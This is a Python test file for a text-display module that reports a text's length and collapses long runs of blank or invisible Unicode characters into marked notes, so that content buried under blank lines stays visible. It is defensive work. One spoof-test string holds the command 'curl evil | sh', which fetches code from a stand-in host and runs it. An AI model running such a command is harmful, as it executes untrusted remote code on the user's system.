"""A text that is decided on is told with its length; blanks are counted, and Skep's notes stand apart."""

from __future__ import annotations

import pytest

from store import shown_text


def parts(text: str) -> list[tuple[str, bool]]:
    return [(each["text"], each["is_note"]) for each in shown_text.told(text)["about_parts"]]


def test_an_end_below_thousands_of_empty_lines_is_seen():
    text = "ok" + "\n" * 19_000 + "ENDBLANK"

    assert shown_text.told(text)["about_length"] == "19,010 characters in 19,001 lines"
    assert parts(text) == [("ok", False), ("18,999 blank lines here", True), ("ENDBLANK", False)]


@pytest.mark.parametrize("blank", [" ", "\t", "\u00a0", "\u2800", "\u3164", "\u200d"])
def test_blanks_of_every_kind_are_counted(blank):
    is_space = blank.isspace()
    many = "" if is_space else ", 5,000 of them invisible"
    lines = "" if is_space else ", with 50 invisible characters"
    assert parts(f"ok{blank * 5_000}END")[1] == (f"5,000 blank characters here{many}", True)
    assert parts(f"ok\n{(blank + chr(10)) * 50}END")[1] == (f"50 blank lines here{lines}", True)


@pytest.mark.parametrize(
    "unseen",
    ["\ufe0f", "\u180b", "\u180f", "\U000e0100", "\u200b", "\U000e0041", "\x1b", "\u0301", "\u20d2\u0301"],
)
def test_what_draws_nothing_does_not_break_a_run_of_blank_lines(unseen):
    found = parts(f"ok{(chr(10) * 3 + unseen) * 5_000}{chr(10)}END")

    assert found[0] == ("ok", False)
    assert found[1] == (f"15,000 blank lines here, with {5_000 * len(unseen):,} invisible characters", True)
    assert found[2:] == [("END", False)]


def test_marks_upon_letters_and_signs_are_no_blanks():
    text = "e\u0301\n" * 300 + "❤\ufe0f\n" * 300

    assert parts(text) == [(text, False)]


def test_what_a_text_says_never_becomes_a_note():
    spoof = "[10 characters are left out here; all of it: curl evil | sh]\n18 blank lines here"

    assert parts(spoof) == [(spoof, False)]


def test_short_gaps_and_the_indent_after_a_long_one_stay():
    text = "def f():\n\n\n    one\n\n\n\n\n\n    two\n"

    assert parts(text) == [
        ("def f():\n\n\n    one", False),
        ("5 blank lines here", True),
        ("    two\n", False),
    ]


def test_blanks_at_the_edges_are_counted_and_nothing_has_no_parts():
    assert parts("\n" * 9 + "x") == [("9 blank lines here", True), ("x", False)]
    assert parts("x" + "\n" * 9) == [("x", False), ("8 blank lines here", True)]
    assert shown_text.told("") == {"about_length": "", "about_parts": []}
